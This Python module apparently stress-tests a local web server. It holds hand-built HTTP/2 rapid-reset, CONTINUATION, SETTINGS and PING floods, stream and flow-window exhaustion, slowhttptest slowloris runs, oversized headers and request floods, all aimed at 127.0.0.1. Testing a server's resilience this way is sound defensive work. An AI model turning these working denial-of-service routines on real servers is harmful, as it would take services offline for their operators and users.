"""Attacks on a server on this machine. Each lasts for a given time and returns a summary.

Frames are built by hand, because HTTP/2 libraries follow the rules that the attacks break. If the server closes a
connection, the attack opens a new one.
"""
import itertools
import re
import socket
import struct
import subprocess
import threading
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS, ACK = 1, 4, 1
AUTHORITY = b"\x41\x09localhost"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def head(path):
    """Builds a header block: GET, http, path, authority. HPACK without a dynamic table."""
    return b"\x82\x86\x04" + bytes([len(path)]) + path + b"\x01\x09localhost"


def connect(port):
    opened = socket.create_connection(("127.0.0.1", port), timeout=2)
    opened.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    return opened


class Flood:
    """Sends batches of HTTP/2 frames until the end, and reads the responses."""

    def __init__(self, port, seconds, most=2_000_000):
        self.port, self.end, self.most = port, time.monotonic() + seconds, most
        self.sent = self.connections = 0
        self.told = {}

    def run(self, batch, of):
        """Sends what `batch` builds; `of` is the number of items in a batch."""
        while time.monotonic() < self.end and self.sent < self.most:
            try:
                self._one(batch, of)
            except OSError:
                # A server may close the connection. The pause limits the rate of new ones.
                time.sleep(0.01)
        codes = ", ".join(f"GOAWAY {code} × {count}" for code, count in sorted(self.told.items()))
        return f"{self.sent} sent on {self.connections} connections; {codes or 'no GOAWAY'}"

    def _one(self, batch, of):
        with connect(self.port) as opened:
            self.connections += 1
            opened.sendall(PREFACE + frame(SETTINGS, 0, 0))
            streams = itertools.count(1, 2)
            left = b""
            while time.monotonic() < self.end and self.sent < self.most:
                try:
                    opened.sendall(batch(streams))
                    self.sent += of
                    opened.setblocking(False)
                    while part := opened.recv(1 << 16):
                        left = self._read(left + part)
                    return
                except BlockingIOError:
                    opened.settimeout(2)
                except ConnectionError:
                    self._read(left)
                    raise

    def _read(self, bytes_):
        while len(bytes_) >= 9:
            length = int.from_bytes(bytes_[:3], "big")
            if len(bytes_) < 9 + length:
                break
            if bytes_[3] == GOAWAY:
                code = int.from_bytes(bytes_[13:17], "big")
                self.told[code] = self.told.get(code, 0) + 1
            bytes_ = bytes_[9 + length:]
        return bytes_


def rapid_reset(port, seconds):
    block = head(b"/rss.xml")

    def batch(streams):
        parts = []
        for stream in itertools.islice(streams, 100):
            parts += frame(HEADERS, END_STREAM | END_HEADERS, stream, block), frame(RST_STREAM, 0, stream, b"\0\0\0\x08")
        return b"".join(parts)
    return Flood(port, seconds).run(batch, 100)


def settings_flood(port, seconds):
    flood = frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535)) * 200
    return Flood(port, seconds).run(lambda _: flood, 200)


def ping_flood(port, seconds):
    flood = frame(PING, 0, 0, b"12345678") * 200
    return Flood(port, seconds).run(lambda _: flood, 200)


def continuation_flood(port, seconds):
    """Sends an endless header of small fields."""
    more = frame(CONTINUATION, 0, 1, (b"\x00\x04x-xx\x40" + b"y" * 64) * 100) * 10

    def batch(streams):
        if next(streams) == 1:
            return frame(HEADERS, END_STREAM, 1, head(b"/rss.xml")) + more
        return more
    return Flood(port, seconds, 100_000).run(batch, 10)


def many_streams(port, seconds):
    """Opens the maximum number of streams with closed windows, so that the responses stay in the server."""
    block, opened, refused = head(b"/sitemap.xml"), [], 0
    end = time.monotonic() + seconds
    while time.monotonic() < end and len(opened) < 50:
        try:
            one = connect(port)
            ask = (frame(HEADERS, END_STREAM | END_HEADERS, 2 * stream + 1, block) for stream in range(100))
            # SETTINGS_INITIAL_WINDOW_SIZE of 0.
            one.sendall(PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0)) + b"".join(ask))
            opened.append(one)
        except OSError:
            refused += 1
    time.sleep(max(0, end - time.monotonic()))
    return f"{len(opened)} connections of 100 streams, {refused} refused"


def asks(paths, first=1):
    """Builds a request for each path, on streams from `first` on."""
    return b"".join(frame(HEADERS, END_STREAM | END_HEADERS, first + 2 * at, head(path.encode()))
                    for at, path in enumerate(paths))


def window(size):
    return frame(SETTINGS, 0, 0, struct.pack(">HI", 4, size))


def late():
    """Yields paths that are rendered on request, of a site of 1,400 posts, in a cycle."""
    return itertools.cycle(f"/{feed}?{kind}={number}" for number in range(2, 70) for kind in ("page", "archive")
                           for feed in ("rss.xml", "atom.xml", "feed.json"))


def cards():
    return itertools.cycle(f"/cards/blog/post-{number:05}/card.png" for number in range(1400))


def toggled_windows(port, seconds):
    """Opens the maximum number of streams, and opens and closes their windows."""
    toggles = (window(1) + window(0)) * 50

    def batch(streams):
        if next(streams) == 1:
            return window(0) + asks(["/sitemap.xml"] * 100)
        return toggles
    return Flood(port, seconds).run(batch, 100)


def tiny_windows(port, seconds):
    """Opens the maximum number of streams, and opens their windows byte by byte."""
    room = b"".join(frame(WINDOW_UPDATE, 0, 1 + 2 * stream, b"\0\0\0\x01") for stream in range(100))

    def batch(streams):
        if next(streams) == 1:
            return window(0) + asks(["/sitemap.xml"] * 100)
        return room
    return Flood(port, seconds).run(batch, 100)


def late_resets(port, seconds):
    """Requests outputs that are not rendered yet, a hundred at a time, and then cancels the requests."""
    documents = late()

    def batch(streams):
        first = next(streams)
        for _ in range(99):
            next(streams)
        taken_back = (frame(RST_STREAM, 0, first - 200 + 2 * at, b"\0\0\0\x08") for at in range(100))
        before = b"".join(taken_back) if first > 200 else window(0)
        return before + asks(itertools.islice(documents, 100), first)
    return Flood(port, seconds).run(batch, 100)


def late_unread(port, seconds):
    """Requests outputs that are not rendered yet, with closed windows."""
    documents, opened, end = itertools.chain.from_iterable(zip(late(), cards())), [], time.monotonic() + seconds
    while time.monotonic() < end and len(opened) < 60:
        one = connect(port)
        one.sendall(PREFACE + window(0) + asks(itertools.islice(documents, 100)))
        opened.append(one)
        time.sleep(seconds / 80)
    time.sleep(max(0, end - time.monotonic()))
    return f"{len(opened)} connections of 100 streams"


def new_cards(port, seconds):
    """One client requests new cards, 300 at a time. A second client requests one now and then, and must get it within a
    second."""
    end, paths, drawn = time.monotonic() + seconds, cards(), [0]

    def flood():
        while time.monotonic() < end:
            try:
                with connect(port) as one:
                    for _ in range(50):
                        request = f"GET {next(paths)} HTTP/1.1\r\nHost: localhost\r\nX-Forwarded-For: 192.0.2.1\r\n\r\n"
                        one.sendall(request.encode())
                        read_answer(one)
                        drawn[0] += 1
            except OSError:
                pass
    for _ in range(300):
        threading.Thread(target=flood, daemon=True).start()
    time.sleep(seconds / 4)
    slowest, refused, others = 0, 0, itertools.islice(cards(), 700, None)
    while time.monotonic() < end:
        with connect(port) as one:
            start = time.monotonic()
            request = f"GET {next(others)} HTTP/1.1\r\nHost: localhost\r\nX-Forwarded-For: 192.0.2.2\r\n\r\n"
            one.sendall(request.encode())
            refused += read_answer(one) == 503
            slowest = max(slowest, time.monotonic() - start)
        time.sleep(0.1)
    told = f"{drawn[0]} requests; the second client's slowest response: {1000 * slowest:.0f} ms, {refused} rejected"
    return told if slowest < 1 and not refused else f"{told}: HELD UP"


def read_answer(opened):
    got = b""
    while b"\r\n\r\n" not in got:
        part = opened.recv(1 << 16)
        if not part:
            raise ConnectionError
        got += part
    fields, body = got.split(b"\r\n\r\n", 1)
    left = int(re.search(rb"content-length: (\d+)", fields).group(1)) - len(body)
    while left > 0:
        left -= len(opened.recv(min(left, 1 << 16))) or left
    return int(fields[9:12])


def idle(port, seconds, count=2000):
    """Keeps connections open that were used once."""
    end, opened = time.monotonic() + seconds, []
    for _ in range(count):
        one = connect(port)
        one.sendall(b"GET /robots.txt HTTP/1.1\r\nHost: localhost\r\n\r\n")
        opened.append(one)
        one.recv(4096)
    time.sleep(max(0, end - time.monotonic()))
    return f"{len(opened)} connections"


def not_found(port, seconds, count=10_000):
    """Requests each of `count` unknown paths once, in pipelines of ten."""
    end, asked = time.monotonic() + seconds, 0
    one = connect(port)
    statuses = {}
    while asked < count and time.monotonic() < end:
        lines = (f"GET /no/such/{asked + at}.xml HTTP/1.1\r\nHost: localhost\r\n\r\n" for at in range(10))
        one.sendall("".join(lines).encode())
        asked += 10
        got = b""
        while got.count(b"HTTP/1.1 ") < 10 or not got.endswith(b"\n"):
            part = one.recv(1 << 16)
            if not part:
                one = connect(port)
                break
            got += part
        for answer in got.split(b"HTTP/1.1 ")[1:]:
            statuses[answer[:3].decode()] = statuses.get(answer[:3].decode(), 0) + 1
    return f"{asked} paths: {statuses}"


def huge_heads(port, seconds):
    """Sends headers of 1 MB in one field, headers of ten thousand fields, and targets of 1 MB, in turns."""
    one_field = b"GET /rss.xml HTTP/1.1\r\nHost: localhost\r\nX: " + b"x" * (1 << 20) + b"\r\n\r\n"
    many = b"GET /rss.xml HTTP/1.1\r\nHost: localhost\r\n" + b"X: y\r\n" * 10_000 + b"\r\n"
    long = b"GET /" + b"x" * (1 << 20) + b" HTTP/1.1\r\nHost: localhost\r\n\r\n"
    end, answers = time.monotonic() + seconds, {}
    for request in itertools.cycle([one_field, many, long]):
        if time.monotonic() > end:
            break
        try:
            with connect(port) as one:
                try:
                    one.sendall(request)
                except OSError:
                    pass
                told = one.recv(12)[9:12].decode() or "closed"
        except OSError as error:
            told = type(error).__name__
        answers[told] = answers.get(told, 0) + 1
    return f"{sum(answers.values())} headers: {answers}"


def slow(*mode):
    def attack(port, seconds):
        command = ["slowhttptest", *mode, "-c", "1000", "-r", "200", "-l", str(int(seconds)), "-p", "3", "-v", "1",
                   "-u", f"http://127.0.0.1:{port}/sitemap.xml"]
        done = subprocess.run(command, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True, errors="replace",
                              timeout=seconds + 30).stdout
        plain = re.sub(r"\x1b\[[0-9;]*m", "", done)
        states = re.findall(r"^(connected|closed|error|service available):\s*(\S+)", plain, re.M)
        return "1000 connections; " + ", ".join(f"{name} {count}" for name, count in dict(states).items())
    return attack


ATTACKS = {
    "slow headers (`slowhttptest -H`)": slow("-H", "-i", "2", "-x", "24"),
    "slow bodies (`-B`)": slow("-B", "-i", "2", "-s", "8192", "-x", "24"),
    "slow reading (`-X`)": slow("-X", "-w", "512", "-y", "1024", "-n", "5", "-z", "32", "-k", "3"),
    "ranges (`-R`)": slow("-R", "-a", "5", "-b", "2000"),
    "2,000 idle connections": idle,
    "rapid reset": rapid_reset,
    "SETTINGS flood": settings_flood,
    "PING flood": ping_flood,
    "CONTINUATION flood": continuation_flood,
    "unread streams": many_streams,
    "windows that open and close": toggled_windows,
    "windows that open byte by byte": tiny_windows,
    "outputs on request, cancelled": late_resets,
    "outputs on request, unread": late_unread,
    "new cards for one client": new_cards,
    "10,000 unknown paths": not_found,
    "huge headers": huge_heads,
}
